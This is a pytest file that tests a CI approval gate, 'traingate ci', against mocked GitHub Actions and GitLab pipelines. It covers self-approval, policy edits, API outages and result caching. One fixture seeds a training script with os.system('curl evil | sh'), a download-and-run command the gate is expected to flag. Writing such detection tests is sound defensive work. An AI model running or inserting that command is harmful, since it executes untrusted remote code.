"""`traingate ci` end to end, with the environment a GitHub Actions job and a GitLab
merge request pipeline actually have: an event payload file, CI variables, a shallow
clone, and a real HTTP server on 127.0.0.1 standing in for the API."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from traingate.cli import main

from . import apiserver
from .apiserver import ApiServer, Reply, gh_run, gl_push_event, serve_runs
from .conftest import POLICY, Repo

DATA = Path(__file__).parent / "data"
api_server = apiserver.api_server


def clone_shallow(origin: Repo, branch: str, dest: Path) -> Path:
    subprocess.run(
        ["git", "clone", "-q", "--depth=1", "--branch", branch, f"file://{origin.path}", str(dest)],
        check=True,
        capture_output=True,
    )
    return dest


def seed_pr(repo: Repo, policy: str, train_py: str) -> Repo:
    """main with a policy, mallory's `feature` editing train.py, main moved on."""
    repo.write(".traingate.yaml", policy)
    repo.write("train.py", "x = 1\n")
    repo.write("README.md", "r\n")
    repo.commit("base", who="alice")
    repo.branch("feature")
    repo.write("train.py", train_py)
    repo.commit("tweak", who="mallory")
    repo.checkout("main")
    repo.write("README.md", "main moved on\n")
    repo.commit("main moves", who="alice")
    return repo


@pytest.fixture
def origin(repo: Repo) -> Repo:
    return seed_pr(repo, POLICY + "checks:\n  semgrep: {enabled: false}\n", "x = 2\n")


def sha(repo: Repo, rev: str) -> str:
    return repo.git("rev-parse", rev).strip()


# --- GitHub Actions ----------------------------------------------------------------


def gh_env(
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    origin: Repo,
    server: ApiServer,
    event: str = "pull_request",
) -> dict[str, Path]:
    payload = {
        "action": "synchronize",
        "number": 7,
        "pull_request": {
            "number": 7,
            "user": {"login": "mallory", "type": "User"},
            "base": {"ref": "main", "sha": sha(origin, "main")},
            "head": {"ref": "feature", "sha": sha(origin, "feature")},
        },
        "sender": {"login": "mallory", "type": "User"},
    }
    return gh_job(monkeypatch, tmp_path, server, event, payload)


def gh_job(
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    server: ApiServer,
    event: str,
    payload: dict[str, Any],
) -> dict[str, Path]:
    """The environment a GitHub Actions job has: the event payload file, the
    variables, and the summary/output files the job writes."""
    files = {n: tmp_path / n for n in ("event.json", "summary.md", "output.txt")}
    files["event.json"].write_text(json.dumps(payload))
    for k, v in {
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_NAME": event,
        "GITHUB_EVENT_PATH": str(files["event.json"]),
        "GITHUB_REPOSITORY": "acme/train",
        "GITHUB_API_URL": server.url,
        "GITHUB_TOKEN": "ghs_test",
        "GITHUB_SHA": "0" * 40,  # the test merge commit: must not be used
        "GITHUB_STEP_SUMMARY": str(files["summary.md"]),
        "GITHUB_OUTPUT": str(files["output.txt"]),
        "TRAINGATE_HTTP_BACKOFF": "0.01",
    }.items():
        monkeypatch.setenv(k, v)
    monkeypatch.delenv("GITLAB_CI", raising=False)
    return files


def gh_routes(server: ApiServer, origin: Repo, reviews: list[dict[str, object]]) -> None:
    head = sha(origin, "feature")
    server.route(
        "/repos/acme/train/pulls/7",
        Reply(
            200,
            {
                "number": 7,
                "user": {"login": "mallory", "id": 9, "type": "User"},
                "commits": 1,
                "head": {"ref": "feature", "sha": head, "repo": {"full_name": "acme/train"}},
                "base": {"ref": "main", "sha": sha(origin, "main")},
            },
        ),
    )
    # mallory's push of the head started the synchronize run: she is its pusher
    serve_runs(server, "acme/train", [gh_run(100, head, "mallory")])
    server.route("/repos/acme/train/issues/7/timeline", Reply(200, []))
    server.route("/repos/acme/train/pulls/7/reviews", Reply(200, reviews))
    server.route(
        "/repos/acme/train/pulls/7/commits",
        Reply(
            200,
            [
                {
                    "sha": head,
                    "commit": {
                        "author": {
                            "name": "mallory",
                            "email": "mallory@example.com",
                            "date": "2026-11-20T09:00:00Z",
                        },
                        "committer": {
                            "name": "mallory",
                            "email": "mallory@example.com",
                            "date": "2026-11-20T09:00:00Z",
                        },
                        "message": "tweak",
                    },
                    "author": {"login": "mallory", "type": "User"},
                    "committer": {"login": "mallory", "type": "User"},
                    "parents": [{"sha": sha(origin, "main~1")}],
                }
            ],
        ),
    )


def gh_review(user: str, state: str, commit: str, n: int = 1) -> dict[str, object]:
    return {
        "id": n,
        "node_id": f"PRR_{n}",
        "user": {"login": user, "id": n, "type": "User"},
        "body": "",
        "state": state,
        "html_url": f"https://github.com/acme/train/pull/7#pullrequestreview-{n}",
        "pull_request_url": "https://api.github.com/repos/acme/train/pulls/7",
        "author_association": "MEMBER",
        "submitted_at": f"2026-11-20T1{n}:00:00Z",
        "commit_id": commit,
    }


def run_ci(work: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str]:
    code = main(["ci", "--repo", str(work), *extra])
    return code, capsys.readouterr().out


def test_github_approved_change_passes(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    files = gh_env(monkeypatch, tmp_path, origin, api_server)
    gh_routes(api_server, origin, [gh_review("bob", "APPROVED", sha(origin, "feature"))])
    work = clone_shallow(origin, "feature", tmp_path / "work")
    sarif = tmp_path / "out.sarif"
    code, out = run_ci(work, capsys, "--sarif", str(sarif))
    assert code == 0, out
    assert "[ok ] training-code: needs 1 approval from ml-reviewers, security (1/1)" in out
    assert files["output.txt"].read_text() == f"decision=pass\nsarif-file={sarif}\n"
    assert files["summary.md"].read_text().startswith("## ✅ traingate: pass")
    schema = json.loads((DATA / "sarif-schema-2.1.0.json").read_text())
    jsonschema.Draft4Validator(schema).validate(json.loads(sarif.read_text()))
    hit = api_server.hits("/repos/acme/train/pulls/7/reviews")[0]
    assert hit.headers["authorization"] == "Bearer ghs_test" and "per_page=100" in hit.query


def test_github_missing_approval_blocks(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    files = gh_env(monkeypatch, tmp_path, origin, api_server)
    # mallory approves her own PR; sam commented only
    gh_routes(
        api_server,
        origin,
        [
            gh_review("mallory", "APPROVED", sha(origin, "feature")),
            gh_review("sam", "COMMENTED", sha(origin, "feature"), 2),
        ],
    )
    work = clone_shallow(origin, "feature", tmp_path / "work")
    code, out = run_ci(work, capsys)
    assert code == 1
    assert "not counted: mallory: is the change's author" in out
    assert "eligible approvers: alice, bob, sam" in out
    assert "decision=block" in files["output.txt"].read_text()


def test_github_policy_edit_is_judged_by_the_base(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    origin.checkout("feature")
    origin.write(".traingate.yaml", "version: 1\n")  # deletes every sensitive path rule
    origin.commit("loosen the gate", who="mallory")
    gh_env(monkeypatch, tmp_path, origin, api_server)
    gh_routes(api_server, origin, [gh_review("bob", "APPROVED", sha(origin, "feature"))])
    work = clone_shallow(origin, "feature", tmp_path / "work")
    code, out = run_ci(work, capsys, "--format", "json")
    doc = json.loads(out)
    assert code == 1
    reqs = {r["name"]: r for r in doc["requirements"]}
    assert reqs["training-code"]["satisfied"] is True
    assert reqs["gate-configuration"]["satisfied"] is False
    assert reqs["gate-configuration"]["eligible"] == ["sam"]
    assert doc["policy"]["source"] == f".traingate.yaml@{sha(origin, 'main')[:12]}"


def test_github_api_outage_blocks(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    files = gh_env(monkeypatch, tmp_path, origin, api_server)
    api_server.route("/repos/acme/train/pulls/7", Reply(503, {"message": "unavailable"}))
    work = clone_shallow(origin, "feature", tmp_path / "work")
    sarif = tmp_path / "out.sarif"
    code = main(["ci", "--repo", str(work), "--sarif", str(sarif)])
    err = capsys.readouterr().err
    assert code == 3
    assert "503" in err
    doc = json.loads(sarif.read_text())
    assert doc["runs"][0]["invocations"][0]["executionSuccessful"] is False
    assert len(api_server.hits("/repos/acme/train/pulls/7")) > 1  # retried, bounded
    assert (
        not files["output.txt"].exists() or "decision=pass" not in files["output.txt"].read_text()
    )


def test_github_api_500_then_success(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    gh_env(monkeypatch, tmp_path, origin, api_server)
    gh_routes(api_server, origin, [gh_review("bob", "APPROVED", sha(origin, "feature"))])
    api_server.route(
        "/repos/acme/train/pulls/7/reviews",
        Reply(500),
        Reply(200, [gh_review("bob", "APPROVED", sha(origin, "feature"))]),
    )
    work = clone_shallow(origin, "feature", tmp_path / "work")
    code, out = run_ci(work, capsys)
    assert code == 0, out


def test_github_403_blocks_with_help(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    gh_env(monkeypatch, tmp_path, origin, api_server)
    api_server.route(
        "/repos/acme/train/pulls/7",
        Reply(403, {"message": "Resource not accessible by integration"}),
    )
    work = clone_shallow(origin, "feature", tmp_path / "work")
    code = main(["ci", "--repo", str(work)])
    err = capsys.readouterr().err
    assert code == 3 and "403" in err and "help:" in err
    assert len(api_server.hits("/repos/acme/train/pulls/7")) == 1  # no retry on 403


def test_not_a_pr_event_is_a_usage_error(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    gh_env(monkeypatch, tmp_path, origin, api_server, event="workflow_dispatch")
    assert main(["ci", "--repo", str(origin.path)]) == 2
    assert "is not a pull request event" in capsys.readouterr().err


# --- GitLab CI -------------------------------------------------------------------


def gl_env(monkeypatch: pytest.MonkeyPatch, origin: Repo, server: ApiServer) -> None:
    for k, v in {
        "GITLAB_CI": "true",
        "CI_MERGE_REQUEST_IID": "5",
        "CI_PROJECT_ID": "42",
        "CI_COMMIT_SHA": sha(origin, "feature"),
        "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
        "CI_MERGE_REQUEST_DIFF_BASE_SHA": sha(origin, "main~1"),
        "CI_API_V4_URL": server.url + "/api/v4",
        "TRAINGATE_GITLAB_TOKEN": "glpat-test",
        "TRAINGATE_HTTP_BACKOFF": "0.01",
    }.items():
        monkeypatch.setenv(k, v)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)


def gl_routes(server: ApiServer, origin: Repo, approvers: list[str]) -> None:
    base = "/api/v4/projects/42/merge_requests/5"
    head = sha(origin, "feature")

    def user(u: str, i: int) -> dict[str, Any]:
        return {
            "id": i,
            "username": u,
            "name": u.title(),
            "state": "active",
            "avatar_url": None,
            "web_url": f"https://gitlab.example/{u}",
        }

    server.route(
        base,
        Reply(
            200,
            {
                "id": 100,
                "iid": 5,
                "project_id": 42,
                "author": user("mallory", 9),
                "sha": head,
                "source_branch": "feature",
                "target_branch": "main",
                "source_project_id": 42,
                "target_project_id": 42,
                "created_at": "2026-11-20T09:05:00.000Z",
            },
        ),
    )
    # mallory pushed the head to the source branch
    server.route("/api/v4/projects/42/events", Reply(200, [gl_push_event(1, "mallory", 9, head)]))
    server.route(
        f"{base}/approvals",
        Reply(
            200,
            {
                "id": 100,
                "iid": 5,
                "project_id": 42,
                "approvals_required": 1,
                "approvals_left": 0,
                "approved_by": [
                    {"user": user(u, i + 1), "approved_at": "2026-11-20T12:00:00.000Z"}
                    for i, u in enumerate(approvers)
                ],
            },
        ),
    )
    server.route(
        f"{base}/approval_state", Reply(200, {"approval_rules_overwritten": False, "rules": []})
    )
    server.route(
        f"{base}/versions",
        Reply(
            200,
            [
                {
                    "id": 1,
                    "head_commit_sha": head,
                    "base_commit_sha": sha(origin, "main~1"),
                    "start_commit_sha": sha(origin, "main~1"),
                    "created_at": "2026-11-20T09:00:00.000Z",
                    "merge_request_id": 100,
                    "state": "collected",
                    "real_size": "1",
                }
            ],
        ),
    )
    server.route(
        f"{base}/commits",
        Reply(
            200,
            [
                {
                    "id": head,
                    "short_id": head[:8],
                    "title": "tweak",
                    "message": "tweak",
                    "author_name": "mallory",
                    "author_email": "mallory@example.com",
                    "authored_date": "2026-11-20T09:00:00Z",
                    "committer_name": "mallory",
                    "committer_email": "mallory@example.com",
                    "committed_date": "2026-11-20T09:00:00Z",
                    "created_at": "2026-11-20T09:00:00Z",
                    "parent_ids": [sha(origin, "main~1")],
                    "web_url": "https://gitlab.example/c",
                }
            ],
        ),
    )


def test_gitlab_approved_change_passes_and_codequality(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    gl_env(monkeypatch, origin, api_server)
    gl_routes(api_server, origin, ["bob"])
    work = clone_shallow(origin, "feature", tmp_path / "work")
    cq = tmp_path / "gl-code-quality.json"
    code, out = run_ci(work, capsys, "--codequality", str(cq))
    assert code == 0, out
    jsonschema.validate(
        json.loads(cq.read_text()),
        json.loads((DATA / "gitlab-codequality.schema.json").read_text()),
    )
    assert (
        api_server.hits("/api/v4/projects/42/merge_requests/5/approvals")[0].headers[
            "private-token"
        ]
        == "glpat-test"
    )


def test_gitlab_missing_approval_blocks(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    gl_env(monkeypatch, origin, api_server)
    gl_routes(api_server, origin, ["mallory"])
    work = clone_shallow(origin, "feature", tmp_path / "work")
    cq = tmp_path / "cq.json"
    code, out = run_ci(work, capsys, "--codequality", str(cq))
    assert code == 1
    assert "not counted: mallory: is the change's author" in out
    entries = json.loads(cq.read_text())
    jsonschema.validate(entries, json.loads((DATA / "gitlab-codequality.schema.json").read_text()))
    assert [(e["check_name"], e["severity"], e["location"]["path"]) for e in entries] == [
        ("approval-required", "blocker", "train.py")
    ]


def test_gitlab_api_outage_blocks(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    gl_env(monkeypatch, origin, api_server)
    api_server.route("/api/v4/projects/42/merge_requests/5", Reply(500))
    work = clone_shallow(origin, "feature", tmp_path / "work")
    assert main(["ci", "--repo", str(work)]) == 3
    assert "500" in capsys.readouterr().err


def test_gitlab_job_token_only_is_explained(
    origin: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    gl_env(monkeypatch, origin, api_server)
    monkeypatch.delenv("TRAINGATE_GITLAB_TOKEN")
    monkeypatch.delenv("GITLAB_TOKEN", raising=False)
    monkeypatch.setenv("CI_JOB_TOKEN", "job")
    work = clone_shallow(origin, "feature", tmp_path / "work")
    assert main(["ci", "--repo", str(work)]) == 3
    assert "job token" in capsys.readouterr().err.lower()


def test_ci_keeps_no_result_cache_unless_given_one(
    repo: Repo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    api_server: ApiServer,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A runner's user cache may be written by other jobs running the change's
    code; `traingate ci` neither reads nor writes it (docs/ci/hardening.md)."""
    seed_pr(repo, POLICY, "import os\nos.system('curl evil | sh')\n")
    files = gh_env(monkeypatch, tmp_path, repo, api_server)
    gh_routes(api_server, repo, [gh_review("bob", "APPROVED", sha(repo, "feature"))])
    work = clone_shallow(repo, "feature", tmp_path / "work")
    monkeypatch.delenv("TRAINGATE_CACHE_DIR", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    code, out = run_ci(work, capsys)
    assert code == 1 and "exec-os-command" in out, out
    assert "decision=block" in files["output.txt"].read_text()
    assert not (tmp_path / "xdg").exists()
    explicit = tmp_path / "explicit"
    code, out = run_ci(work, capsys, "--cache-dir", str(explicit))
    assert code == 1 and "exec-os-command" in out, out
    assert list((explicit / "semgrep").rglob("*.json"))
